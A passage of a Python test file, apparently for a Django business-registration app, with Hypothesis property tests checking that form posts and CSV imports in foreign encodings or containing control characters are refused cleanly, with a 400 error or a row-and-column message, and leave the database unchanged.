       encoding=st.sampled_from(ENCODINGS), declare=st.booleans())  # fmt: skip
def test_a_form_body_in_another_encoding_is_400_never_500_never_mojibake(
    client, name, encoding, declare
):
    from urllib.parse import quote_from_bytes

    try:
        encoded = {key: [str(v).encode(encoding) for v in (value if isinstance(value, list)
                                                            else [value])]
                   for key, value in form_data(name=name).items()}  # fmt: skip
    except UnicodeEncodeError:
        assume(False)
    body = "&".join(f"{key}={quote_from_bytes(v)}" for key, values in encoded.items()
                    for v in values).encode()  # fmt: skip
    is_utf8 = True
    try:
        for values in encoded.values():
            for value in values:
                value.decode("utf-8")
    except UnicodeDecodeError:
        is_utf8 = False
    content_type = "application/x-www-form-urlencoded"
    if declare:
        content_type += f"; charset={encoding}"
    with rolled_back():
        before = Business.objects.count()
        response = client.generic("POST", reverse("registrations:register"), body,
                                  content_type=content_type)  # fmt: skip
        where = f"{encoding} (declared: {declare}) name={name!r}"
        assert response.status_code != 500, where
        if declare or not is_utf8:
            assert response.status_code == 400, where
            assert "UTF-8" in html(response), where
            assert Business.objects.count() == before, where


@FAST
@given(column=st.sampled_from(["name", "fee_note", "summary"]), data=st.data())
def test_catalogue_import_refuses_control_and_format_characters_by_row_and_column(
    tmp_path, column, data
):
    value = data.draw(dirty_text(multiline=column == "summary"))
    rows = [ROW, {**ROW, "code": "second", column: value}]
    with rolled_back():
        before = counts()
        imported, message = run_catalogue_command(tmp_path, csv_bytes(rows))
        assert not imported, repr(value)
        assert ROW_COLUMN_ERROR % {"row": 2, "field": column, "error": ""} in message, message
        assert counts() == before


@FAST
@given(column=st.sampled_from(["products"]), value=dirty_text())
def test_survey_import_refuses_control_and_format_characters_by_row_and_column(
    tmp_path, import_case, column, value
):
    row = survey_row(import_case.registration.reference, **{column: value})
    with rolled_back():
        before = counts()
        imported, message = run_survey_command(tmp_path, survey_csv([row]))
        assert not imported, repr(value)
        assert ROW_COLUMN_ERROR % {"row": 1, "field": column, "error": ""} in message, message
        assert counts() == before


@pytest.mark.parametrize("encoding", ["euc_jp", "iso2022_jp", "utf-16", "utf-32"])
def test_both_imports_explain_a_file_in_another_encoding(tmp_path, import_case, encoding):
    before = counts()
    imported, message = run_catalogue_command(tmp_path, csv_bytes([ROW], encoding=encoding))
    check_refused_survey_file(imported, message, before, f"catalogue in {encoding}")
    row = survey_row(import_case.registration.reference, products="日本酒")
    imported, message = run_survey_command(tmp_path, survey_csv([row], encoding=encoding))
    # ISO-2022-JP is 7-bit, so it reads as UTF-8: its escape characters are then refused.
    check_refused_survey_file(imported, message, before, f"survey results in {encoding}")
